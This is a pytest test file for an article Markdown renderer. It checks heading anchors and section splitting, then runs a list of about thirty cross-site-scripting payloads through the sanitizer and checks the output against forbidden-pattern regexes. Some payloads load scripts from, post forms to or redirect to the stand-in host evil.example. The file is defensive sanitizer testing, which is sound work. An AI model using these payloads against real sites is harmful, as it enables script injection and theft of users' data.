"""Rendering and sanitizing article Markdown: anchors (contract 3) and a hostile corpus."""

import re

import pytest

from articles.markdown import heading_anchor, markdownify, render_markdown


def test_headings_get_slugified_ids():
    html = render_markdown("## Billing terminated\ntext").html
    assert '<h2 id="billing-terminated">Billing terminated</h2>' in html


def test_duplicate_headings_get_numbered_suffixes():
    rendered = render_markdown("## Setup\na\n## Setup\nb\n### Setup\nc")
    assert [s.anchor for s in rendered.sections] == ["setup", "setup-2", "setup-3"]


def test_heading_anchor_uses_django_slugify_rules():
    assert heading_anchor("Why can't I log in?", set()) == "why-cant-i-log-in"
    assert heading_anchor("Error 535: Authentication failed", set()) == "error-535-authentication-failed"


def test_heading_without_letters_still_gets_an_anchor():
    assert render_markdown("## ???\ntext").sections[0].anchor == "section"


def test_sections_carry_title_level_and_plain_text():
    rendered = render_markdown("Intro *here*.\n\n## First\nOne **two**.\n\n### Sub\nThree & four.")
    assert [(s.title, s.anchor, s.level, s.text) for s in rendered.sections] == [
        ("", "", 0, "Intro here."),
        ("First", "first", 2, "One two."),
        ("Sub", "sub", 3, "Three & four."),
    ]


def test_empty_intro_is_not_a_section():
    assert [s.anchor for s in render_markdown("## Only\ntext").sections] == ["only"]


def test_level_one_heading_in_body_becomes_h2_so_the_page_keeps_one_h1():
    html = render_markdown("# Big\ntext").html
    assert "<h1" not in html and '<h2 id="big">Big</h2>' in html


def test_fenced_code_keeps_its_language_class_and_escapes_content():
    html = render_markdown("```json\n{\"a\": \"<b>\"}\n```").html
    assert '<code class="language-json">' in html and "&lt;b&gt;" in html


def test_markdownify_is_the_public_render():
    text = "## A\n<script>x</script>text"
    assert markdownify(text) == render_markdown(text).html


HOSTILE = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<a href="#" onclick="alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=x><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<h2 id="x" onmouseover="alert(1)">heading</h2>',
    "## Heading <script>alert(1)</script>",
    '<p class="admin-only" id="login-form">classes and ids</p>',
    "<!-- <script>alert(1)</script> -->",
    '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
]

FORBIDDEN = [
    re.compile(r"<\s*(script|iframe|object|embed|style|form|input|button|meta|link|base|svg|math|noscript)\b", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"javascript:|vbscript:|data:", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\s(class|id)\s*=\s*\"(?!language-)(?![a-z0-9-]+\")", re.I),
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_never_reaches_the_page(payload):
    html = render_markdown(f"Intro.\n\n{payload}\n\nAfter.").html
    for pattern in FORBIDDEN:
        assert not pattern.search(html), (pattern.pattern, html)


def test_editor_ids_and_classes_are_removed():
    html = render_markdown('<p class="x" id="login-form">t</p>').html
    assert "login-form" not in html and 'class="x"' not in html


def test_safe_links_survive_with_rel():
    html = render_markdown("[reset](https://app.example.com/reset) and [contact](/contact/)").html
    assert 'href="https://app.example.com/reset"' in html and 'href="/contact/"' in html
    assert 'rel="noopener noreferrer"' in html
